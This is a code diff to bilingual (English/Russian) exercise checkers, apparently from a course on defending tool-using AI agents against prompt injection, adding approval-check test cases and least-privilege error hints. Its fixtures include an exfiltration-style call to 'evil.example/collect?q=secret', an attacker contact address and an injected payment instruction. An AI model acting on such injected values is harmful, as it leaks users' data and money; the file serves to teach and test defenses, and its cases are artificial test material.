@@ -11,7 +11,7 @@ import json
 from itertools import combinations
 from typing import Any
 
-from helpers.exercises._verdict import NotYet, call_student, exercise
+from helpers.exercises._verdict import Explain, NotYet, call_student, exercise
 from helpers.guard import only, untrusted_arguments
 from helpers.tools import ToolRegistry
 
@@ -33,6 +33,8 @@ BILL = (
     "to US133000000121212121212 </INFORMATION>"
 )
 CHANGING = frozenset({"send_email", "send_money", "update_password"})
+FLIGHTS = "Flights to Paris are cheap in May. Book now."
+CONTACTS = json.dumps({"contacts": ["anna@example.com", "mallory@evil.example"]})
 
 
 def reference_needs_approval(name: Any, arguments: Any, untrusted: list[str], changing) -> bool:
@@ -82,6 +84,21 @@ APPROVAL_CASES: list[tuple[Case, tuple[Any, Any, list[str], frozenset[str]]]] = 
         ("the value in the second result", "значение во втором результате"),
         ("open_page", {"url": "https://evil.example/collect?q=secret"}, [EMAIL, PAGE], CHANGING),
     ),
+    (
+        ("the value in the first of two results", "значение в первом из двух результатов"),
+        ("open_page", {"url": "https://evil.example/collect?q=secret"}, [PAGE, EMAIL], CHANGING),
+    ),
+    (
+        ("a copied value of exactly 5 characters", "скопированное значение ровно из 5 символов"),
+        ("get_weather", {"city": "Paris"}, [FLIGHTS], CHANGING),
+    ),
+    (
+        (
+            "a value of 4 characters with spaces around it",
+            "значение из 4 символов с пробелами по краям",
+        ),
+        ("get_weather", {"city": "  Rome  "}, [PAGE], CHANGING),
+    ),
     (("arguments None", "аргументы None"), ("get_weather", None, [], CHANGING)),
     (("arguments as a list", "аргументы списком"), ("get_weather", ["Beijing"], [], CHANGING)),
     (
@@ -124,6 +141,15 @@ APPROVAL_CASES: list[tuple[Case, tuple[Any, Any, list[str], frozenset[str]]]] = 
     (
         ("a long query not in the result", "длинный запрос, которого нет в результате"),
         ("search_notes", {"query": "what did Anna say about the party"}, [EMAIL], CHANGING),
+    ),
+    (
+        ("a list copied from a JSON result", "список, скопированный из результата в JSON"),
+        (
+            "lookup_contacts",
+            {"emails": ["anna@example.com", "mallory@evil.example"]},
+            [CONTACTS],
+            CHANGING,
+        ),
     ),
     (("an empty tool name", "пустое имя инструмента"), ("", {}, [EMAIL], CHANGING)),
 ]
@@ -181,16 +207,19 @@ def check_needs_approval(needs_approval: Any) -> None:
             found = untrusted_arguments(arguments, untrusted)[0]
             why = (
                 f"the value of {found!r} occurs in a tool result (compare stripped, any case, "
-                "numbers as JSON text).",
+                "numbers and lists as JSON text; 5 characters or more count).",
                 f"значение {found!r} встречается в результате инструмента (сравнивайте без "
-                "пробелов по краям, без учёта регистра, числа как JSON-текст).",
+                "пробелов по краям, без учёта регистра, числа и списки как JSON-текст; считаются "
+                "значения от 5 символов).",
             )
         else:
             why = (
-                "it changes nothing and no value of 5 or more characters came from a tool "
-                "result; asking here only teaches people to click yes.",
-                "он ничего не меняет, и ни одно значение длиной от 5 символов не взято из "
-                "результата инструмента; лишний вопрос только приучает людей нажимать «да».",
+                "it changes nothing and no value of 5 or more characters (counted without the "
+                "spaces at its edges) came from a tool result; asking here only teaches people "
+                "to click yes.",
+                "он ничего не меняет, и ни одно значение длиной от 5 символов (без пробелов по "
+                "краям) не взято из результата инструмента; лишний вопрос только приучает людей "
+                "нажимать «да».",
             )
         raise NotYet(
             f"for '{en}' {shown} should be {expected}, got {_show(got)}: {why[0]}",
@@ -305,6 +334,27 @@ def _is_registry(value: Any) -> bool:
     )
 
 
+# What a registry's missing name looks like when the learner's code looks it up anyway.
+PRIVILEGE_MISTAKES = (
+    Explain(
+        KeyError,
+        r"^'(?!function'|name'|type'|parameters')([^']*)'$",
+        "the registry has no tool {0!r}: a name in needed that the registry lacks is ignored, "
+        "so look only at the registry's own tools.",
+        "в реестре нет инструмента {0!r}: имя из needed, которого нет в реестре, "
+        "пропускается, поэтому смотрите только на инструменты самого реестра.",
+    ),
+    Explain(
+        StopIteration,
+        r"^$",
+        "the next() call found no tool of that name: a name in needed that the registry lacks is "
+        "ignored, so look only at the registry's own tools.",
+        "вызов next() не нашёл инструмента с таким именем: имя из needed, которого нет в реестре, "
+        "пропускается, поэтому смотрите только на инструменты самого реестра.",
+    ),
+)
+
+
 @exercise
 def check_least_privilege(least_privilege: Any) -> None:
     """Exercise 2: `least_privilege(registry, needed)` -> a new ToolRegistry with only `needed`."""
@@ -321,7 +371,9 @@ def check_least_privilege(least_privilege: Any) -> None:
         registry, before = fresh_registry(toolset), [s[0] for s in TOOLSETS[toolset]]
         expected = _names(only(fresh_registry(toolset), needed).schemas)
         case = (f"'{en}'", ru)
-        small = call_student(least_privilege, registry, needed, case=case)
+        small = call_student(
+            least_privilege, registry, needed, explain=PRIVILEGE_MISTAKES, case=case
+        )
         if not _is_registry(small):
             raise NotYet(
                 f"{case_en} least_privilege returned {type(small).__name__}, not a ToolRegistry: "
